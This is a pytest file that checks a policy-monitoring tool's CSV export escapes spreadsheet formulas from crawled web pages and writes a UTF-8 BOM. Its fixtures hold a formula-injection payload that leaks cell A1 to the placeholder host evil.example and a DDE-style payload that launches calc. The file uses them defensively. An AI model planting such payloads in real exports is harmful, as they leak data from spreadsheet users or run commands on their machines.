"""`export --format csv` never hands a spreadsheet a live formula from crawled text (both backends)."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from html import escape

import pytest

from policywatch.cli import main
from policywatch.commands.export import csv_cell
from policywatch.flow import Page, record_page

TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
NUMBER = "+1+cmd|'/Ccalc'!A0"  # no spaces: the normalizer folds spaces out of a 文号
T0 = datetime(2025, 6, 1, 9, 0)


def notice(measures: list[str]) -> bytes:
    """A gkmlpt-style notice (the layout of policywatch/demo/pages/zhaoqing-gkmlpt.html) with a hostile title."""
    items = "\n".join(f'<p style="text-indent:2em">{i}.{escape(m)}</p>' for i, m in enumerate(measures, 1))
    return f"""<!doctype html><html lang="zh"><head><meta charset="UTF-8"><title>{escape(TITLE)}</title>
<meta name="ArticleTitle" content="{escape(TITLE)}"></head><body>
<div class="content"><h1 class="title">{escape(TITLE)}</h1><div class="date-row">发布日期:2025-06-01</div>
<table class="classify"><tr><td>文号:</td><td>{escape(NUMBER)}</td><td>发布机构:</td><td>办公室</td></tr></table>
<div class="article-content"><p>各县(市、区)人民政府,市政府各部门:</p>
<p style="text-indent:2em">为做好有关工作,经市人民政府同意,现就有关事项通知如下。</p>
<p style="text-indent:2em"><strong>一、工作措施</strong></p>
{items}
</div></div></body></html>""".encode()


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+2", "'=1+2"),
        ("+86 10", "'+86 10"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("关于=1的通知", "关于=1的通知"),
        (0.5, 0.5),
        (None, None),
        (["=x"], '["=x"]'),
    ],
)
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


def test_export_csv_neutralizes_formulas(db, db_url, capsys):
    url = "http://example.gov.cn/p.html"
    record_page(db, Page(url=url, body=notice(["落实资金保障。", "加强督促检查。"]), site="s", fetched_at=T0))
    record_page(
        db,
        Page(
            url=url,
            body=notice(["落实资金保障。", "@SUM(1+1)加强督促检查。"]),
            site="s",
            fetched_at=T0 + timedelta(days=1),
        ),
    )
    assert main(["export", "--format", "csv", "--db", db_url]) == 0
    out = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows and {r["title"] for r in rows} == {"'" + TITLE}
    assert {r["doc_number"] for r in rows} == {"'" + NUMBER}
    assert any(r["new_text"].startswith("'@SUM(1+1)") for r in rows)
    for r in rows:
        for name, value in r.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
    # and every cell is quoted, so no other separator can open a cell inside one
    assert out.splitlines()[1].startswith('"')


def _two_versions(db) -> None:
    url = "http://example.gov.cn/p.html"
    record_page(db, Page(url=url, body=notice(["落实资金保障。"]), site="s", fetched_at=T0))
    later = notice(["落实资金保障。", "加强督促检查。"])
    record_page(db, Page(url=url, body=later, site="s", fetched_at=T0 + timedelta(days=1)))


def test_export_csv_starts_with_a_bom_for_excel(db, db_url, tmp_path, capsys):
    _two_versions(db)
    out = tmp_path / "changes.csv"
    assert main(["export", "--format", "csv", "--db", db_url, "--out", str(out)]) == 0
    raw = out.read_bytes()
    assert raw[:3] == b"\xef\xbb\xbf" and raw[3:4] == b'"'  # one mark, then the quoted header
    # Excel reads a CSV that starts with the mark as UTF-8 (Python's name for that: utf-8-sig)
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert next(iter(rows[0])) == "change_id"  # the mark is not part of the first column's name
    assert {r["title"] for r in rows} == {"'" + TITLE}  # 点击查看, as written
    assert "加强督促检查。" in {r["new_text"] for r in rows}
    # standard output gets the mark too: `policywatch export --format csv > changes.csv`
    capsys.readouterr()
    assert main(["export", "--format", "csv", "--db", db_url]) == 0
    assert capsys.readouterr().out.startswith('\ufeff"change_id"')


def test_export_no_bom_and_jsonl_have_none(db, db_url, tmp_path):
    _two_versions(db)
    out = tmp_path / "changes.csv"
    assert main(["export", "--format", "csv", "--no-bom", "--db", db_url, "--out", str(out)]) == 0
    raw = out.read_bytes()
    assert raw.startswith(b'"change_id",') and b"\xef\xbb\xbf" not in raw
    assert "点击查看" in raw.decode("utf-8")
    lines = tmp_path / "changes.jsonl"
    assert main(["export", "--format", "jsonl", "--db", db_url, "--out", str(lines)]) == 0
    assert lines.read_bytes().startswith(b"{")
